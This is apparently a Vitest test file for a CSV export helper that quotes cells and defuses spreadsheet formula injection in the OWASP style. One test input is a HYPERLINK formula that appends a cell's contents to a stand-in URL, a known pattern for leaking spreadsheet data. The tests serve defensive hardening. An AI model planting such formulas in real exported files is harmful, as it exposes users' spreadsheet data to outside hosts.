import { describe, expect, it } from 'vitest';
import { csvCell, csvRow, startsFormula } from './csv.js';

describe('a CSV cell', () => {
  it('is quoted when it holds a comma, semicolon, quote, line break or edge space, and left bare otherwise', () => {
    expect(csvCell('Quầy 1')).toBe('Quầy 1');
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('a;b')).toBe('"a;b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('line\nbreak')).toBe('"line\nbreak"');
    expect(csvCell(' lề')).toBe('" lề"');
    expect(csvCell('')).toBe('');
    expect(csvCell(null)).toBe('');
  });

  it('a text starting with = + - @ tab or CR gets a single quote in front and is quoted (OWASP)', () => {
    expect(csvCell('=HYPERLINK("http://x"&A1,"Xem chi tiết")')).toBe(`"'=HYPERLINK(""http://x""&A1,""Xem chi tiết"")"`);
    expect(csvCell('=1+1')).toBe(`"'=1+1"`);
    expect(csvCell('+1')).toBe(`"'+1"`);
    expect(csvCell('-2+3')).toBe(`"'-2+3"`);
    expect(csvCell('@SUM(A1)')).toBe(`"'@SUM(A1)"`);
    expect(csvCell('\t=1')).toBe(`"'\t=1"`);
    expect(csvCell('\r=1')).toBe(`"'\r=1"`);
    // text that looks like a number is still text
    expect(csvCell('-1')).toBe(`"'-1"`);
  });

  it('a number (a numeric column) stays a number, a negative one too; NaN and Infinity are empty', () => {
    expect(csvCell(42)).toBe('42');
    expect(csvCell(-3)).toBe('-3');
    expect(csvCell(87.5)).toBe('87.5');
    expect(csvCell(Number.NaN)).toBe('');
    expect(csvCell(Infinity)).toBe('');
  });

  it('a row joins cells with commas and ends with CRLF', () => {
    expect(csvRow(['a', 1, null, '=x'])).toBe(`a,1,,"'=x"\r\n`);
  });

  it('startsFormula tells a dangerous cell from a plain number', () => {
    expect(startsFormula('=1+1')).toBe(true);
    expect(startsFormula('-2+3')).toBe(true);
    expect(startsFormula('-3')).toBe(false);
    expect(startsFormula('-3.5')).toBe(false);
    expect(startsFormula("'=1+1")).toBe(false);
  });
});
